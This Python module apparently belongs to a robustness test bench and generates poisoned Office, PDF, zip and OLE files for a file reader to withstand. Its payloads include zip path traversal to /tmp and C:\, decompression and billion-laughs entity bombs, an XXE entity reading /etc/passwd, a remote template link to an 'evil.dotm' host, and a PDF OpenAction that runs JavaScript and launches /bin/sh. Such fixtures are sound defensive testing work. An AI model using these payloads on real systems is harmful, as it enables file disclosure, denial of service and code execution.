"""Poisoned files: what an attachment may hold that its reader must survive. Pure; the same bytes in every run."""

from __future__ import annotations

import io
import struct
import zipfile
import zlib
from functools import lru_cache

from bench.faults.packing import spaces

_XML = '<?xml version="1.0" encoding="UTF-8"?>'
_SHEET_SPACE = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_WORD_SPACE = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"
_RELATION = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PACKAGE = "http://schemas.openxmlformats.org/package/2006"
_TYPE = "application/vnd.openxmlformats-officedocument"
_DAY = (2026, 1, 1, 0, 0, 0)
_BOMB_MB = 256
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
PNG = b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\0\1\0\0\0\1\x08\0\0\0\0:~\x9bU"
PROGRAM = b"MZ\x90\0" + b"\0" * 56 + b"\x80\0\0\0" + b"This program cannot be run in DOS mode.\r\n" * 40


def zipped(members: dict[str, bytes]) -> bytes:
    """A zip with these members, by name; names are taken as they are."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members.items():
            archive.writestr(zipfile.ZipInfo(name, _DAY), data, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def _package(kind: str, part: str, content: str) -> dict[str, bytes]:
    """What every Office file has around its main part."""
    types = (
        f'{_XML}<Types xmlns="{_PACKAGE}/content-types">'
        '<Default Extension="rels" ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
        '<Default Extension="xml" ContentType="application/xml"/>'
        f'<Override PartName="/{part}" ContentType="{_TYPE}.{kind}.main+xml"/></Types>'
    )
    top = (
        f'{_XML}<Relationships xmlns="{_PACKAGE}/relationships">'
        f'<Relationship Id="rId1" Type="{_RELATION}/officeDocument" Target="{part}"/></Relationships>'
    )
    return {"[Content_Types].xml": types.encode(), "_rels/.rels": top.encode(), part: content.encode()}


def workbook(sheet: str, before: str = "") -> dict[str, bytes]:
    """The members of a workbook of one sheet; ``sheet`` is what stands in it, ``before`` a document type before it."""
    book = (
        f'{_XML}<workbook xmlns="{_SHEET_SPACE}" xmlns:r="{_RELATION}">'
        '<sheets><sheet name="1" sheetId="1" r:id="rId1"/></sheets></workbook>'
    )
    links = (
        f'{_XML}<Relationships xmlns="{_PACKAGE}/relationships">'
        f'<Relationship Id="rId1" Type="{_RELATION}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>'
    )
    page = f'{_XML}{before}<worksheet xmlns="{_SHEET_SPACE}">{sheet}</worksheet>'
    return {
        **_package("spreadsheetml.sheet", "xl/workbook.xml", book),
        "xl/_rels/workbook.xml.rels": links.encode(),
        "xl/worksheets/sheet1.xml": page.encode(),
    }


def letter(text: str, before: str = "") -> dict[str, bytes]:
    """The members of a Word file; ``text`` is markup of its body."""
    body = f'{_XML}{before}<w:document xmlns:w="{_WORD_SPACE}"><w:body>{text}</w:body></w:document>'
    return _package("wordprocessingml.document", "word/document.xml", body)


def _entities() -> str:
    layers = "".join(f'<!ENTITY x{n} "{f"&x{n - 1};" * 10}">' for n in range(1, 11))
    return f'<!DOCTYPE r [<!ENTITY x0 "lol">{layers}]>'


_CELL = '<sheetData><row r="1"><c r="A1" t="inlineStr"><is><t>{0}</t></is></c></row></sheetData>'
_PARAGRAPH = "<w:p><w:r><w:t>{0}</w:t></w:r></w:p>"
_FILE_ENTITY = '<!DOCTYPE r [<!ENTITY f SYSTEM "file:///etc/passwd">]>'


def slip(kind: str) -> bytes:
    """Members whose names lead out of the folder, upwards, absolute and with a drive."""
    names = (
        "../../../../../../tmp/faults-slipped",
        "/tmp/faults-slipped",
        "..\\..\\faults-slipped",
        "C:\\faults-slipped",
    )
    return zipped({**_whole(kind), **dict.fromkeys(names, b"slipped")})


def _whole(kind: str) -> dict[str, bytes]:
    return letter(_PARAGRAPH.format("ok")) if kind == "docx" else workbook(_CELL.format("ok"))


@lru_cache(maxsize=4)
def bomb(kind: str) -> bytes:
    """A main part of 256 MB of spaces."""
    members = _whole(kind)
    part = "word/document.xml" if kind == "docx" else "xl/worksheets/sheet1.xml"
    return spaces(_BOMB_MB).in_zip(part, {name: data for name, data in members.items() if name != part})


def entities(kind: str) -> bytes:
    """Entities that grow to 30 GB."""
    if kind == "docx":
        return zipped(letter(_PARAGRAPH.format("&x10;"), _entities()))
    return zipped(workbook(_CELL.format("&x10;"), _entities()))


def external(kind: str) -> bytes:
    """An entity that names a file of the reader."""
    if kind == "docx":
        return zipped(letter(_PARAGRAPH.format("&f;"), _FILE_ENTITY))
    return zipped(workbook(_CELL.format("&f;"), _FILE_ENTITY))


def macro(kind: str) -> bytes:
    """A part with macros, and a link to a template elsewhere."""
    part = "word" if kind == "docx" else "xl"
    template = (
        f'{_XML}<Relationships xmlns="{_PACKAGE}/relationships"><Relationship Id="rId9" TargetMode="External"'
        f' Type="{_RELATION}/attachedTemplate" Target="http://127.0.0.1:9/evil.dotm"/></Relationships>'
    )
    more = {
        f"{part}/vbaProject.bin": OLE + b"Attribute VB_Name" * 20,
        f"{part}/_rels/settings.xml.rels": template.encode(),
    }
    return zipped({**_whole(kind), **more})


def wide(kind: str) -> bytes:
    """A sheet that says it has 17 billion cells; a Word file with a table of 100,000 empty cells."""
    if kind == "docx":
        row = "<w:tr>" + "<w:tc><w:p/></w:tc>" * 1000 + "</w:tr>"
        return zipped(letter(f"<w:tbl>{row * 100}</w:tbl>"))
    cells = '<row r="1"><c r="A1"><v>1</v></c></row><row r="1048576"><c r="XFD1048576"><v>1</v></c></row>'
    return zipped(workbook(f'<dimension ref="A1:XFD1048576"/><sheetData>{cells}</sheetData>'))


def many(kind: str) -> bytes:
    """20,000 members."""
    return zipped({**_whole(kind), **{f"m{number}": b"" for number in range(20_000)}})


def nested(kind: str) -> bytes:
    """Elements in each other, 100,000 deep."""
    depth = 100_000
    if kind == "docx":
        return zipped(letter("<w:p>" * depth + "</w:p>" * depth))
    return zipped(workbook("<a>" * depth + "</a>" * depth))


def locked(kind: str) -> bytes:
    """A zip that says that all its members are encrypted."""
    data = bytearray(zipped(_whole(kind)))
    for mark, offset in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        at = data.find(mark)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(mark, at + 4)
    return bytes(data)


def _pdf(*objects: bytes, root: int = 1) -> bytes:
    """A PDF of these objects, numbered from 1."""
    out = bytearray(b"%PDF-1.5\n")
    places = []
    for number, content in enumerate(objects, 1):
        places.append(len(out))
        out += b"%d 0 obj\n%s\nendobj\n" % (number, content)
    start = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(
        out + b"trailer\n<</Size %d/Root %d 0 R>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, root, start)
    )


_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R>>"
_PAGES = b"<</Type/Pages/Kids[3 0 R]/Count 1>>"


def _stream(data: bytes, extra: bytes = b"") -> bytes:
    return b"<</Length %d%s>>\nstream\n%s\nendstream" % (len(data), extra, data)


@lru_cache(maxsize=1)
def pdf_bomb() -> bytes:
    """A stream that unpacks to 256 MB, packed twice."""
    packed = zlib.compress(spaces(_BOMB_MB).as_zlib(), 9)
    return _pdf(
        b"<</Type/Catalog/Pages 2 0 R>>", _PAGES, _PAGE, _stream(packed, b"/Filter[/FlateDecode/FlateDecode]")
    )


def pdf_actions() -> bytes:
    """JavaScript when it is opened, a program to launch, and a form to send."""
    actions = b"<</S/JavaScript/JS(app.launchURL\\('http://127.0.0.1:9/'\\))/Next<</S/Launch/F(/bin/sh)>>>>"
    return _pdf(
        b"<</Type/Catalog/Pages 2 0 R/OpenAction " + actions + b">>", _PAGES, _PAGE, _stream(b"BT ET")
    )


def pdf_circle() -> bytes:
    """Pages that are their own parents, and a stream whose length is itself."""
    return _pdf(
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[2 0 R 3 0 R]/Parent 2 0 R/Count 2000000000>>",
        b"<</Type/Page/Parent 3 0 R/MediaBox[0 0 1e30 1e30]/Contents[4 0 R 4 0 R]>>",
        b"<</Length 4 0 R>>\nstream\nBT\nendstream",
    )


def pdf_deep() -> bytes:
    """100,000 arrays in each other."""
    return _pdf(
        b"<</Type/Catalog/Pages 2 0 R/X " + b"[" * 100_000 + b"]" * 100_000 + b">>",
        _PAGES,
        _PAGE,
        _stream(b""),
    )


def ole_circle() -> bytes:
    """A compound file whose table of sectors runs in a circle."""
    head = bytearray(512)
    head[:8] = OLE
    head[24:34] = struct.pack("<HHHHH", 0x3E, 3, 0xFFFE, 9, 6)
    head[44:48] = struct.pack("<I", 1)
    head[48:52] = struct.pack("<I", 1)
    head[56:60] = struct.pack("<I", 4096)
    head[60:76] = struct.pack("<IIII", 0, 1, 0, 1)
    head[76:80] = struct.pack("<I", 0)
    sector = struct.pack("<128I", *range(128))
    return bytes(head) + sector * 8
